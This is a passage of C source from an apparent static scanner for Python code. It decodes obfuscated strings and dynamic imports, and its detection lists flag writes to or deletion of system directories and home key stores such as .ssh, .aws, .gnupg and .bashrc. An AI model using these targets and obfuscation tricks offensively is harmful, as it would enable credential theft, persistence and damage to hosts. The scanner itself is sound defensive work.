        if (str_is(enc, "base64") || str_is(enc, "base_64") || str_is(enc, "b64"))
                ok = decode_b64(v, &out, false);
        else if (str_is(enc, "hex") || str_is(enc, "hex_codec"))
                ok = decode_hex(v, &out);
        else if (enc->len >= 3 &&
                 (strncasecmp(enc->p, "utf", 3) == 0 || strncasecmp(enc->p, "ascii", 5) == 0 ||
                  strncasecmp(enc->p, "latin", 5) == 0))
                return true;
        else {
                v->flags |= STR_DECODED; /* zlib, bz2, uu...: decoded, value unknown */
                return false;
        }
        if (ok) {
                free(v->p);
                v->p = out.p;
                v->len = out.len;
                v->cap = out.cap;
                v->flags |= STR_DECODED;
        } else
                str_done(&out);
        return ok;
}

/* A literal list or tuple of ints, or a name bound to one: [105, 109, 112]. */
static bool int_list(Ctx *c, size_t a, size_t b, int64_t **ret, size_t *ret_n)
{
        int64_t *v = NULL;
        size_t n = 0;

        if (b == a + 1 && tok_type(c, a, PY_TOK_NAME)) {
                Binding *bd = lookup(c, c->src + c->tok[a].start, c->tok[a].len);

                if (!bd || bd->kind != B_INTLIST)
                        return false;
                n = bd->val_len / sizeof(int32_t);
                v = malloc(MAX(n, (size_t)1) * sizeof(*v));
                if (!v)
                        return false;
                for (size_t i = 0; i < n; i++) {
                        int32_t x;

                        memcpy(&x, binding_value(c, bd) + i * sizeof(x), sizeof(x));
                        v[i] = x;
                }
        } else {
                if (b < a + 2 || !(tok_is(c, a, "[") || tok_is(c, a, "(")) ||
                    close_of(c, a, b) != b - 1)
                        return false;
                if (!spend(c, b - a))
                        return false;
                v = malloc((b - a) * sizeof(*v));
                if (!v)
                        return false;
                /* NUMBER or -NUMBER, each followed by ',' or the closing bracket */
                for (size_t i = a + 1; i < b - 1;) {
                        bool neg = tok_is(c, i, "-");
                        int64_t x;

                        i += neg;
                        if (!tok_type(c, i, PY_TOK_NUMBER) ||
                            !parse_int(c->src + c->tok[i].start, c->tok[i].len, &x) ||
                            !(tok_is(c, i + 1, ",") || i + 1 == b - 1)) {
                                free(v);
                                return false;
                        }
                        v[n++] = neg ? -x : x;
                        i += 2;
                }
        }
        *ret = v;
        *ret_n = n;
        return true;
}

/* chr(x) for x in L, chr(x ^ K) ..., map(chr, L): the characters of an int list. */
static bool fold_chr_list(Ctx *c, size_t a, size_t b, Str *out, unsigned depth)
{
        size_t j, o, var, in_list = 0;
        int64_t *v = NULL, k = 0;
        char op = 0;
        size_t n = 0;
        Ref r;

        if (tok_type(c, a, PY_TOK_NAME) && py_token_is(c->src, &c->tok[a], "map") &&
            tok_is(c, a + 1, "(") && close_of(c, a + 1, b) == b - 1) {
                /* map(chr, L) */
                if (!walk_chain(c, a + 2, b, &r, WALK_CALLEE, depth, &j) || !tok_is(c, j, ",") ||
                    strcmp(r.q, "builtins.chr") != 0)
                        return false;
                in_list = j + 1;
        } else {
                /* chr(NAME [op NUMBER]) for NAME in L */
                if (!walk_chain(c, a, b, &r, WALK_CALLEE, depth, &o) || !tok_is(c, o, "(") ||
                    strcmp(r.q, "builtins.chr") != 0)
                        return false;
                var = o + 1;
                j = close_of(c, o, b);
                if (!tok_type(c, var, PY_TOK_NAME))
                        return false;
                if (j == var + 3 && tok_type(c, var + 2, PY_TOK_NUMBER) &&
                    c->tok[var + 1].type == PY_TOK_OP && c->tok[var + 1].len == 1 &&
                    strchr("^+-", c->src[c->tok[var + 1].start]) &&
                    parse_int(c->src + c->tok[var + 2].start, c->tok[var + 2].len, &k))
                        op = c->src[c->tok[var + 1].start];
                else if (j != var + 1)
                        return false;
                if (!tok_is(c, j + 1, "for") || !tok_type(c, j + 2, PY_TOK_NAME) ||
                    c->tok[j + 2].len != c->tok[var].len ||
                    memcmp(c->src + c->tok[j + 2].start, c->src + c->tok[var].start,
                           c->tok[var].len) != 0 ||
                    !tok_is(c, j + 3, "in"))
                        return false;
                in_list = j + 4;
        }
        if (!int_list(c, in_list, b - (tok_is(c, a, "map") ? 1 : 0), &v, &n))
                return false;
        for (size_t i = 0; i < n; i++) {
                int64_t x = op == '^'   ? v[i] ^ k
                            : op == '+' ? v[i] + k
                            : op == '-' ? v[i] - k
                                        : v[i];

                if (x < 0 || x > 0x10ffff || !str_append_cp(out, (uint32_t)x)) {
                        free(v);
                        return false;
                }
        }
        free(v);
        out->flags |= STR_DECODED | STR_JOINED;
        return true;
}

/* sep.join(X): X a literal list or tuple of strings, or chr() of an int list. */
static bool fold_join(Ctx *c, const Str *sep, size_t a, size_t b, Str *out, unsigned depth)
{
        size_t n = 0;

        if ((tok_is(c, a, "[") || tok_is(c, a, "(")) && close_of(c, a, b) == b - 1) {
                size_t i = a + 1;

                if (fold_chr_list(c, a + 1, b - 1, out, depth))
                        goto joined;
                while (i < b - 1) {
                        size_t s = i;
                        Str part = {};
                        bool ok;

                        while (i < b - 1 && !tok_is(c, i, ","))
                                i = skip_group(c, i, b - 1);
                        ok = s < i && fold(c, s, i, &part, depth + 1) && !(part.flags & STR_INT) &&
                             (n == 0 || str_append(out, sep->p, sep->len)) &&
                             str_append(out, part.p, part.len);
                        out->flags |= part.flags & (STR_DECODED | STR_BYTES);
                        str_done(&part);
                        if (!ok)
                                return false;
                        n++;
                        i++;
                }
                if (n == 0 && !str_append(out, "", 0))
                        return false;
                goto joined;
        }
        if (!fold_chr_list(c, a, b, out, depth))
                return false;
joined:
        out->flags |= STR_JOINED;
        return true;
}

/* The value of a call whose callee resolved to r: decoders, chr(), bytes(), path helpers. */
static bool fold_call(Ctx *c, const Ref *r, size_t o, size_t cl, Str *out, unsigned depth)
{
        size_t a, b;
        Str arg = {}, enc = {};
        bool ok = false;
        int role = r->e ? r->e->role : ROLE_NONE;

        if (role == ROLE_HOME)
                return str_append(out, "~", 1);
        if (role == ROLE_PATH && o + 1 == cl)
                return str_append(out, ".", 1);
        if (role == ROLE_JOIN) {
                for (int k = 0; call_arg(c, o, cl, k, NULL, &a, &b); k++) {
                        Str part = {};

                        ok = fold(c, a, b, &part, depth + 1) && !(part.flags & STR_INT);
                        if (ok && part.len > 0 && part.p[0] == '/')
                                out->len = 0; /* an absolute part restarts the path */
                        ok = ok &&
                             (out->len == 0 || out->p[out->len - 1] == '/' ||
                              str_append(out, "/", 1)) &&
                             str_append(out, part.p, part.len);
                        out->flags |= part.flags & STR_DECODED;
                        str_done(&part);
                        if (!ok)
                                return false;
                }
                return ok;
        }
        if (!call_arg(c, o, cl, 0, NULL, &a, &b))
                return false;
        if (role == ROLE_BYTES) {
                int64_t *v;
                size_t n;

                if (int_list(c, a, b, &v, &n)) {
                        for (size_t i = 0; i < n; i++) {
                                char byte = (char)(v[i] & 0xff);

                                if (!str_append(out, &byte, 1)) {
                                        free(v);
                                        return false;
                                }
                        }
                        free(v);
                        out->flags |= STR_BYTES | STR_DECODED | STR_JOINED;
                        return true;
                }
        }
        ok = fold(c, a, b, &arg, depth + 1);
        out->flags |= arg.flags & STR_DECODED;
        switch (role) {
        case ROLE_CHR:
                ok = ok && (arg.flags & STR_INT) && arg.i >= 0 && arg.i <= 0x10ffff &&
                     str_append_cp(out, (uint32_t)arg.i);
                out->flags |= STR_DECODED | STR_JOINED;
                break;
        case ROLE_B64:
        case ROLE_B64URL:
                ok = ok && !(arg.flags & STR_INT) && decode_b64(&arg, out, role == ROLE_B64URL);
                out->flags |= STR_DECODED | STR_BYTES;
                break;
        case ROLE_HEX:
                ok = ok && !(arg.flags & STR_INT) && decode_hex(&arg, out);
                out->flags |= STR_DECODED | STR_BYTES;
                break;
        case ROLE_CODECS:
                if (call_arg(c, o, cl, 1, "encoding", &a, &b) && fold(c, a, b, &enc, depth + 1)) {
                        ok = ok && apply_codec(&arg, &enc) && str_append(out, arg.p, arg.len);
                        out->flags |= arg.flags & STR_DECODED;
                } else
                        ok = false;
                break;
        case ROLE_OPAQUE:
                out->flags |= STR_DECODED;
                ok = false;
                break;
        case ROLE_IDENTITY:
        case ROLE_PATH:
        case ROLE_BYTES: /* bytes("...", "utf-8") */
                ok = ok && !(arg.flags & STR_INT) && str_append(out, arg.p, arg.len);
                out->flags |= arg.flags & (STR_JOINED | STR_BYTES);
                break;
        default:
                ok = false;
        }
        str_done(&arg);
        str_done(&enc);
        return ok;
}

/* value[::-1] */
static bool is_reversal(const Ctx *c, size_t i, size_t cl)
{
        return cl == i + 5 && tok_is(c, i + 1, ":") && tok_is(c, i + 2, ":") &&
               tok_is(c, i + 3, "-") && tok_type(c, i + 4, PY_TOK_NUMBER) &&
               c->tok[i + 4].len == 1 && c->src[c->tok[i + 4].start] == '1';
}

static bool str_replace_all(Str *v, const Str *from, const Str *to)
{
        Str out = {.flags = v->flags};

        if (from->len == 0)
                return false;
        for (size_t i = 0; i < v->len;) {
                if (i + from->len <= v->len && memcmp(v->p + i, from->p, from->len) == 0) {
                        if (!str_append(&out, to->p, to->len)) {
                                str_done(&out);
                                return false;
                        }
                        i += from->len;
                } else if (!str_append(&out, v->p + i++, 1)) {
                        str_done(&out);
                        return false;
                }
        }
        if (!out.p && !str_append(&out, "", 0))
                return false;
        free(v->p);
        *v = out;
        return true;
}

/* A method called on a folded string: .decode(), .encode(), .lower(), .replace(a, b),
 * .join(...), [::-1]. Returns the index after it, or 0 when it cannot be folded. */
static size_t fold_trailer(Ctx *c, size_t i, size_t b, Str *v, unsigned depth)
{
        size_t o, cl, a0, b0, a1, b1;
        char m[16];

        if (v->flags & STR_INT)
                return 0;
        if (tok_is(c, i, "[")) {
                cl = close_of(c, i, b);
                if (cl >= b || !is_reversal(c, i, cl))
                        return 0;
                for (size_t k = 0; k < v->len / 2; k++) {
                        char t = v->p[k];

                        v->p[k] = v->p[v->len - 1 - k];
                        v->p[v->len - 1 - k] = t;
                }
                v->flags |= STR_DECODED;
                return cl + 1;
        }
        if (!tok_is(c, i, ".") || !tok_type(c, i + 1, PY_TOK_NAME) || !tok_is(c, i + 2, "(") ||
            py_name_value(c->src, &c->tok[i + 1], m, sizeof(m), NULL) < 0)
                return 0;
        o = i + 2;
        cl = close_of(c, o, b);
        if (cl >= b)
                return 0;
        if (strcmp(m, "decode") == 0 || strcmp(m, "encode") == 0) {
                Str enc = {};
                bool ok = true;

                /* Python 2's "...".decode("rot13") / "hex" / "base64" */
                if (call_arg(c, o, cl, 0, "encoding", &a0, &b0)) {
                        ok = fold(c, a0, b0, &enc, depth + 1) && apply_codec(v, &enc);
                        v->flags |= enc.flags & STR_DECODED;
                }
                str_done(&enc);
                if (!ok)
                        return 0;
                v->flags = m[0] == 'd' ? v->flags & ~STR_BYTES : v->flags | STR_BYTES;
        } else if (strcmp(m, "lower") == 0 || strcmp(m, "upper") == 0) {
                for (size_t k = 0; k < v->len; k++)
                        if (((v->p[k] | 0x20) >= 'a' && (v->p[k] | 0x20) <= 'z'))
                                v->p[k] =
                                    m[0] == 'l' ? (char)(v->p[k] | 0x20) : (char)(v->p[k] & ~0x20);
        } else if (strcmp(m, "strip") == 0 && o + 1 == cl) {
                size_t s = 0, e = v->len;

                while (s < e && strchr(" \t\r\n", v->p[s]))
                        s++;
                while (e > s && strchr(" \t\r\n", v->p[e - 1]))
                        e--;
                memmove(v->p, v->p + s, e - s);
                v->len = e - s;
                v->p[v->len] = '\0';
        } else if (strcmp(m, "replace") == 0) {
                Str from = {}, to = {};
                bool ok = call_arg(c, o, cl, 0, NULL, &a0, &b0) &&
                          call_arg(c, o, cl, 1, NULL, &a1, &b1) &&
                          fold(c, a0, b0, &from, depth + 1) && fold(c, a1, b1, &to, depth + 1) &&
                          str_replace_all(v, &from, &to);

                v->flags |= STR_JOINED | ((from.flags | to.flags) & STR_DECODED);
                str_done(&from);
                str_done(&to);
                if (!ok)
                        return 0;
        } else if (strcmp(m, "join") == 0) {
                Str out = {};

                if (!call_arg(c, o, cl, 0, NULL, &a0, &b0) ||
                    !fold_join(c, v, a0, b0, &out, depth + 1)) {
                        v->flags |= out.flags & STR_DECODED;
                        str_done(&out);
                        return 0;
                }
                out.flags |= v->flags & STR_DECODED;
                free(v->p);
                *v = out;
        } else {
                if (strcmp(m, "translate") == 0) /* str.maketrans tables: rot13 and kin */
                        v->flags |= STR_DECODED;
                return 0;
        }
        return cl + 1;
}

/* One operand of '+': literals, a bound name, a call to a decoder, (...), then trailers. */
static bool fold_operand(Ctx *c, size_t a, size_t b, Str *out, unsigned depth)
{
        const PyToken *t = &c->tok[a];
        size_t i = a;

        if (t->type == PY_TOK_STRING) {
                size_t n = 0;

                for (; i < b && c->tok[i].type == PY_TOK_STRING; i++, n++) {
                        const char *v;
                        size_t len;

                        if (!token_value(c, i, &v, &len) || !str_append(out, v, len))
                                return false;
                        if (c->tok[i].flags & PY_TOKF_BYTES)
                                out->flags |= STR_BYTES;
                }
                if (n > 1)
                        out->flags |= STR_JOINED;
        } else if (t->type == PY_TOK_NUMBER ||
                   (tok_is(c, a, "-") && tok_type(c, a + 1, PY_TOK_NUMBER))) {
                bool neg = t->type != PY_TOK_NUMBER;

                i += neg;
                if (!parse_int(c->src + c->tok[i].start, c->tok[i].len, &out->i))
                        return false;
                out->i = neg ? -out->i : out->i;
                out->flags |= STR_INT;
                i++;
        } else if (tok_is(c, a, "(")) {
                size_t cl = close_of(c, a, b);

                if (cl >= b || !fold(c, a + 1, cl, out, depth + 1))
                        return false;
                i = cl + 1;
        } else if (t->type == PY_TOK_NAME) {
                Binding *bd = lookup(c, c->src + t->start, t->len);
                size_t j, cl;
                Ref r;

                if (bd && bd->kind == B_CONST) {
                        if (!str_append(out, binding_value(c, bd), bd->val_len))
                                return false;
                        out->flags |= bd->flags;
                        i++;
                } else if (bd && bd->kind == B_DECODED) {
                        out->flags |= STR_DECODED;
                        return false;
                } else {
                        if (!walk_chain(c, a, b, &r, WALK_CALLEE, depth + 1, &j) ||
                            !tok_is(c, j, "("))
                                return false;
                        cl = close_of(c, j, b);
                        if (cl >= b || !fold_call(c, &r, j, cl, out, depth + 1))
                                return false;
                        i = cl + 1;
                }
        } else
                return false;

        while (i < b) {
                size_t next;

                if (!spend(c, 1) || (next = fold_trailer(c, i, b, out, depth)) == 0)
                        return false;
                i = next;
        }
        return true;
}

/* Folds tokens [a, b) to a string (or an int) when they are literals joined by '+' and the
 * calls above. out starts empty and is the caller's to free; out->flags says STR_DECODED even
 * when folding failed, if a decoder was met. */
static bool fold(Ctx *c, size_t a, size_t b, Str *out, unsigned depth)
{
        size_t i = a, pieces = 0;

        if (a >= b || b > c->n || depth > FOLD_DEPTH || !spend(c, 1))
                return false;
        while (i < b) {
                size_t s = i;
                Str part = {};
                bool ok;

                while (i < b && !tok_is(c, i, "+")) {
                        if (!spend(c, 1))
                                return false;
                        i = skip_group(c, i, b);
                }
                i = MIN(i, b);
                ok = s < i && fold_operand(c, s, i, &part, depth + 1);
                out->flags |= part.flags & STR_DECODED;
                if (ok && pieces == 0) {
                        uint8_t flags = out->flags;

                        free(out->p);
                        *out = part;
                        out->flags |= flags;
                        part = (Str){};
                } else if (ok && (part.flags & STR_INT) && (out->flags & STR_INT))
                        out->i += part.i;
                else if (ok && !((part.flags | out->flags) & STR_INT))
                        ok = str_append(out, part.p, part.len);
                else
                        ok = false;
                out->flags |= part.flags & (STR_BYTES | STR_JOINED | STR_DECODED);
                str_done(&part);
                if (!ok)
                        return false;
                pieces++;
                if (i < b && ++i == b)
                        return false; /* a trailing '+' */
        }
        if (pieces > 1)
                out->flags |= STR_JOINED;
        if (!(out->flags & STR_INT) && !out->p && !str_append(out, "", 0))
                return false;
        return pieces > 0;
}

/* --- chains: o.system, getattr(o, "x"), __import__("os").system, sys.modules["os"] ------- */

/* A NAME token's name as Python sees it (see py_name_value()): the source bytes when ASCII,
 * else folded into buf; look-alike letters are reported when main. */
static bool name_of(Ctx *c, size_t i, char *buf, size_t size, const char **ret, size_t *ret_len,
                    bool main)
{
        const PyToken *t = &c->tok[i];
        const char *p = c->src + t->start;
        bool folded = false;
        int n;

        for (size_t k = 0; k < t->len; k++)
                if ((unsigned char)p[k] >= 0x80)
                        goto fold;
        *ret = p;
        *ret_len = t->len;
        return true;
fold:
        n = py_name_value(c->src, t, buf, size, &folded);
        if (n < 0)
                return false;
        if (folded && main)
                report(c, R_OBF_UNICODE, i, i, "'%s' is spelled in look-alike letters", buf);
        *ret = buf;
        *ret_len = (size_t)n;
        return true;
}

/* Reports the rule of the name r now stands for (tokens ta..tb), if any. */
static void ref_found(Ctx *c, Ref *r, size_t ta, size_t tb, bool main)
{
        r->e = r->known ? name_find(r->q) : NULL;
        if (r->e)
                r->role = r->e->role;
        if (main && r->e && r->e->role >= ROLE_B64 && r->e->role <= ROLE_CHR)
                c->decoded_at = ta;
        if (main && r->e && r->e->rule != NO_RULE)
                report(c, r->e->rule, ta, tb, "%s %s", tok_is(c, tb + 1, "(") ? "calls" : "uses",
                       r->q);
}

/* r = r[key] */
static void ref_subscript(Ctx *c, Ref *r, const Str *key)
{
        size_t k = strlen(r->q);

        if (strcmp(r->q, "sys.modules") == 0)
                ref_set_module(r, key->p, key->len);
        else if (strcmp(r->q, "<globals>") == 0)
                resolve_name(c, key->p, key->len, r);
        else if (k > 9 && strcmp(r->q + k - 9, ".__dict__") == 0) {
                r->q[k - 9] = '\0';
                ref_append(r, key->p, key->len);
        } else if (r->q[0] == '<')
                r->known = false;
        else
                ref_append(r, key->p, key->len); /* __builtins__["eval"] */
        if (memchr(key->p, '\0', key->len) || memchr(key->p, '.', key->len))
                r->known = false;
}

static void on_code(Ctx *c, const Ref *r, size_t head, size_t o, size_t cl);
static void on_load(Ctx *c, size_t head, size_t o, size_t cl);
static void on_yaml(Ctx *c, size_t head, size_t o, size_t cl);
static void on_path_use(Ctx *c, const char *path, bool write, size_t head, size_t cl);
static void on_open(Ctx *c, const char *path, size_t o, size_t cl, int mode_arg, size_t head,
                    unsigned depth);
static void on_setattr(Ctx *c, const Ref *r, size_t head, size_t o, size_t cl, unsigned depth);
static void on_fork(Ctx *c, size_t head, size_t cl);
static void mark_loops(Ctx *c, bool all, int what);

enum { MARK_EXIT, MARK_FORK, MARK_GROW, MARK_THROTTLE };

/* The folded string of argument k (or keyword kw); checks what it names when assembled. */
static bool arg_string(Ctx *c, size_t o, size_t cl, int k, const char *kw, Str *out, unsigned depth)
{
        size_t a, b;

        if (!call_arg(c, o, cl, k, kw, &a, &b))
                return false;
        if (!fold(c, a, b, out, depth + 1) || (out->flags & STR_INT))
                return false;
        if (out->flags & (STR_JOINED | STR_DECODED))
                check_literal(c, out->p, out->len, a, b - 1);
        return true;
}

/* A name decoded, or one identifier glued from pieces ("o" + "s"). A dotted path joined from a
 * package and a module ('.'.join((pkg, mod))) is how plugin loaders name modules. */
static bool is_obfuscated_name(const Str *name)
{
        return (name->flags & STR_DECODED) ||
               ((name->flags & STR_JOINED) && !memchr(name->p, '.', name->len));
}

/* __import__("os"), importlib.import_module("o" + "s"): r becomes the module. */
static void call_import(Ctx *c, Ref *r, size_t head, size_t o, size_t cl, bool main, unsigned depth)
{
        bool whole = r->e->role == ROLE_IMPORT_MODULE;
        size_t a, b;
        Str name = {};

        /* __import__("a.b") is a, unless a fromlist asks for a.b itself. */
        if (!whole && (call_arg(c, o, cl, 3, "fromlist", &a, &b)))
                whole = true;
        if (!arg_string(c, o, cl, 0, "name", &name, depth) || name.len == 0 ||
            memchr(name.p, '\0', name.len)) {
                if (main)
                        report(c, R_DYN_IMPORT, head, cl,
                               "%s() of a module name computed at run time", r->q);
                r->known = false;
        } else {
                const char *dot = memchr(name.p, '.', name.len);

                if (main && is_obfuscated_name(&name))
                        report(c, R_OBF_NAME, head, cl, "%s() of '%.*s', assembled at run time",
                               r->q, (int)MIN(name.len, 64), name.p);
                ref_set_module(r, name.p, whole || !dot ? name.len : (size_t)(dot - name.p));
        }
        str_done(&name);
}

/* getattr(x, "name"): r becomes x.name. */
static void call_getattr(Ctx *c, Ref *r, size_t head, size_t o, size_t cl, unsigned flags,
                         unsigned depth)
{
        bool main = flags & WALK_MAIN;
        size_t a, b, e = 0;
        Str attr = {};
        Ref base = {};
        bool have_base = call_arg(c, o, cl, 0, "object", &a, &b) &&
                         walk_chain(c, a, b, &base, 0, depth + 1, &e) && e == b;
        bool have_attr = arg_string(c, o, cl, 1, NULL, &attr, depth) &&
                         !memchr(attr.p, '\0', attr.len) && !memchr(attr.p, '.', attr.len);

        r->known = false;
        if (have_attr && main)
                check_dunder(c, attr.p, attr.len, head, cl, false);
        if (have_base && have_attr) {
                *r = base;
                if (strcmp(r->q, "<globals>") == 0 || r->q[0] != '<')
                        ref_append(r, attr.p, attr.len);
                else
                        r->known = false;
                if (main && is_obfuscated_name(&attr))
                        report(c, R_OBF_NAME, head, cl,
                               "getattr() of '%.*s', a name assembled at run time",
                               (int)MIN(attr.len, 64), attr.p);
        } else if (have_base && !have_attr && main && is_sensitive_module(base.q))
                report(c, R_DYN_IMPORT, head, cl,
                       "getattr() on %s with a name computed at run time", base.q);
        str_done(&attr);
}

/* A call: r is the callee. Names that give names (imports, getattr, vars) keep r known; the
 * others act when main (the pass that reports) and leave r unknown. */
static void call(Ctx *c, Ref *r, size_t head, size_t o, size_t cl, unsigned flags, unsigned depth)
{
        bool main = flags & WALK_MAIN;
        int role = r->e ? r->e->role : ROLE_NONE;
        size_t a, b, e;
        Str s = {};

        switch (role) {
        case ROLE_IMPORT:
        case ROLE_IMPORT_MODULE:
                call_import(c, r, head, o, cl, main, depth);
                return;
        case ROLE_GETATTR:
                call_getattr(c, r, head, o, cl, flags, depth);
                return;
        case ROLE_GLOBALS:
                ref_set(r, "<globals>", 9);
                return;
        case ROLE_VARS:
                if (o + 1 == cl) {
                        ref_set(r, "<globals>", 9);
                        return;
                }
                if (call_arg(c, o, cl, 0, NULL, &a, &b) &&
                    walk_chain(c, a, b, r, 0, depth + 1, &e) && e == b && r->q[0] != '<')
                        ref_append(r, "__dict__", 8);
                else
                        r->known = false;
                return;
        case ROLE_PATH:
        case ROLE_HOME:
                r->has_path = fold_call(c, r, o, cl, &s, depth) && !memchr(s.p, '\0', s.len);
                if (r->has_path)
                        snprintf(r->path, sizeof(r->path), "%.*s", (int)MIN(s.len, 255), s.p);
                str_done(&s);
                ref_set(r, "<path>", 6);
                return;
        }
        r->known = false;
        if (!main)
                return;
        switch (role) {
        case ROLE_CODE:
                on_code(c, r, head, o, cl);
                break;
        case ROLE_LOAD:
                on_load(c, head, o, cl);
                break;
        case ROLE_YAML:
                on_yaml(c, head, o, cl);
                break;
        case ROLE_DELETE:
                if (arg_string(c, o, cl, 0, "path", &s, depth))
                        on_path_use(c, s.p, false, head, cl);
                break;
        case ROLE_OPEN:
                if (arg_string(c, o, cl, 0, "file", &s, depth))
                        on_open(c, s.p, o, cl, 1, head, depth);
                break;
        case ROLE_SETATTR:
                on_setattr(c, r, head, o, cl, depth);
                break;
        case ROLE_FORK:
                on_fork(c, head, cl);
                break;
        case ROLE_SPAWN:
                mark_loops(c, false, MARK_GROW);
                break;
        case ROLE_EXIT:
                mark_loops(c, true, MARK_EXIT);
                break;
        case ROLE_THROTTLE:
                mark_loops(c, false, MARK_THROTTLE);
                break;
        default:
                if (strncmp(r->q, "<path>.", 7) == 0) {
                        const char *m = r->q + 7;

                        if (!r->has_path)
                                break;
                        if (strcmp(m, "unlink") == 0 || strcmp(m, "rmdir") == 0)
                                on_path_use(c, r->path, false, head, cl);
                        else if (strcmp(m, "write_text") == 0 || strcmp(m, "write_bytes") == 0)
                                on_path_use(c, r->path, true, head, cl);
                        else if (strcmp(m, "open") == 0)
                                on_open(c, r->path, o, cl, 0, head, depth);
                } else if (strncmp(r->q, "builtins.__dict__.", 18) == 0)
                        report(c, R_ESC_BUILTINS, head, cl, "changes the builtins through %s",
                               r->q);
        }
        str_done(&s);
}

static bool walk_chain(Ctx *c, size_t i, size_t end, Ref *r, unsigned flags, unsigned depth,
                       size_t *ret_end)
{
        bool main = flags & WALK_MAIN;
        char buf[QMAX];
        const char *name;
        size_t n, j = i + 1;

        r->known = false;
        r->decoded = false;
        r->role = ROLE_NONE;
        r->e = NULL;
        r->has_path = false;
        *ret_end = j;
        if (depth > FOLD_DEPTH || !tok_type(c, i, PY_TOK_NAME) || !spend(c, 1) ||
            !name_of(c, i, buf, sizeof(buf), &name, &n, main))
                return false;
        if (!resolve_name(c, name, n, r)) {
                if (main && r->decoded)
                        c->decoded_at = i;
                return false;
        }
        ref_found(c, r, i, i, main);
        while (j < end && r->known) {
                if (!spend(c, 1))
                        r->known = false;
                else if (tok_is(c, j, ".") && j + 1 < end && tok_type(c, j + 1, PY_TOK_NAME)) {
                        if (!name_of(c, j + 1, buf, sizeof(buf), &name, &n, main) ||
                            !ref_append(r, name, n))
                                r->known = false;
                        j += 2;
                        ref_found(c, r, i, j - 1, main);
                } else if (tok_is(c, j, "[")) {
                        size_t cl = close_of(c, j, end);
                        Str key = {};

                        if (cl < end && cl - j <= 32 && fold(c, j + 1, cl, &key, depth + 1) &&
                            !(key.flags & STR_INT)) {
                                ref_subscript(c, r, &key);
                                j = cl + 1;
                                ref_found(c, r, i, j - 1, main);
                        } else
                                r->known = false;
                        str_done(&key);
                } else if (tok_is(c, j, "(")) {
                        size_t cl = close_of(c, j, end);
                        int role = r->e ? r->e->role : ROLE_NONE;

                        /* A callee for folding: stop before a call that gives no name. */
                        if ((flags & WALK_CALLEE) &&
                            !(role == ROLE_IMPORT || role == ROLE_IMPORT_MODULE ||
                              role == ROLE_GETATTR || role == ROLE_VARS || role == ROLE_GLOBALS))
                                break;
                        call(c, r, i, j, cl, flags, depth);
                        j = MIN(cl + 1, end);
                        if (r->known)
                                ref_found(c, r, i, j - 1, main);
                } else
                        break;
        }
        /* eval itself handed around: whatever calls it, the scanner does not see with what. */
        if (main && r->known && r->e && r->e->role == ROLE_CODE && !tok_is(c, j, "(") &&
            !tok_is(c, j, "="))
                report(c, R_DYN_EVAL, i, j - 1, "%s passed around as a value", r->q);
        *ret_end = j;
        return r->known;
}

/* --- what calls do ----------------------------------------------------------------------- */

static const char *first_component(const char *p, const char *end, size_t *ret_len)
{
        const char *s = p;

        while (p < end && *p != '/')
                p++;
        *ret_len = (size_t)(p - s);
        return s;
}

/* Files and folders of a home directory that run code at login or hold keys: writing them is
 * persistence, deleting them is damage. Other dotfiles are an application's own data. */
static const char *const home_sensitive[] = {
    ".bash_login",  ".bash_logout",     ".bash_profile", ".bashrc", ".config/autostart",
    ".config/fish", ".config/systemd",  ".gitconfig",    ".gnupg",  ".kube",
    ".aws",         ".pam_environment", ".profile",      ".ssh",    ".xinitrc",
    ".xprofile",    ".zlogin",          ".zprofile",     ".zshenv", ".zshrc",
};

/* Whether rest (what follows a home directory: "/.bashrc") is the home directory itself or
 * one of home_sensitive[]. */
static const char *home_path(const char *rest)
{
        if (*rest == '\0' || strcmp(rest, "/") == 0 || strcmp(rest, "/*") == 0)
                return "the home directory";
        if (rest[0] != '/')
                return NULL;
        rest++;
        for (size_t i = 0; i < ELEMENTSOF(home_sensitive); i++) {
                size_t k = strlen(home_sensitive[i]);

                if (strncmp(rest, home_sensitive[i], k) == 0 && (rest[k] == '\0' || rest[k] == '/'))
                        return "a login script or key store of a home directory";
        }
        return NULL;
}

/* Why deleting (or writing, when write) path hurts the host, or NULL when it does not. */
static const char *system_path(const char *path, bool write)
{
        static const char *const system_dirs[] = {"bin",   "boot",  "etc",    "lib",
                                                  "lib32", "lib64", "libx32", "proc",
                                                  "root",  "sbin",  "sys",    "usr"};
        /* harmless to write, and to delete entries of */
        static const char *const dev_ok[] = {"fd",     "full",   "null", "shm",
                                             "stderr", "stdout", "tty",  "zero"};
        /* what the system keeps under /var: deleting it breaks the host, writing it is
         * tampering (crontabs in spool, package state in lib); an application writing its log
         * or cache there is ordinary */
        static const char *const var_dirs[] = {"backups", "lib", "mail", "run", "spool"};
        static const char *const var_delete_only[] = {"cache", "log", "www"};
        static const char *const top_dirs[] = {"home", "media", "mnt", "opt", "snap", "srv", "var"};
        const char *comp[3] = {}, *p, *end = path + strlen(path);
        size_t len[3] = {}, depth = 0;

        if (path[0] == '~' || strncmp(path, "$HOME", 5) == 0 || strncmp(path, "${HOME}", 7) == 0) {
                const char *rest = path[0] == '~' ? path + 1 : path[1] == '{' ? path + 7 : path + 5;

                /* "~user/..." is another user's home: the same files */
                if (path[0] == '~')
                        while (*rest && *rest != '/')
                                rest++;
                return home_path(rest);
        }
        if (path[0] != '/')
                return NULL;
        for (p = path; p < end && depth < 3;) {
                while (p < end && *p == '/')
                        p++;
                if (p >= end)
                        break;
                comp[depth] = first_component(p, end, &len[depth]);
                p += len[depth];
                if (len[depth] == 1 && comp[depth][0] == '.')
                        continue;
                depth++;
        }
        if (depth == 0 || (depth == 1 && len[0] == 1 && comp[0][0] == '*'))
                return "the root directory";
        for (size_t i = 0; i < ELEMENTSOF(system_dirs); i++)
                if (ieq(comp[0], len[0], system_dirs[i]))
                        return "a system directory";
        if (ieq(comp[0], len[0], "dev")) {
                for (size_t i = 0; depth > 1 && i < ELEMENTSOF(dev_ok); i++)
                        if (ieq(comp[1], len[1], dev_ok[i]))
                                return NULL;
                return "a device";
        }
        if (ieq(comp[0], len[0], "var") && depth > 1) {
                for (size_t i = 0; i < ELEMENTSOF(var_dirs); i++)
                        if (ieq(comp[1], len[1], var_dirs[i]))
                                return "a system directory";
                for (size_t i = 0; !write && i < ELEMENTSOF(var_delete_only); i++)
                        if (ieq(comp[1], len[1], var_delete_only[i]))
                                return "a system directory";
        }
        if (ieq(comp[0], len[0], "home") && depth == 3)
                return home_path(comp[2] - 1); /* /home/<user>/.bashrc */
        for (size_t i = 0; i < ELEMENTSOF(top_dirs); i++)
                if (ieq(comp[0], len[0], top_dirs[i]) &&
                    (depth == 1 || (depth == 2 && ieq(comp[0], len[0], "home"))))
                        return "a whole top-level directory";
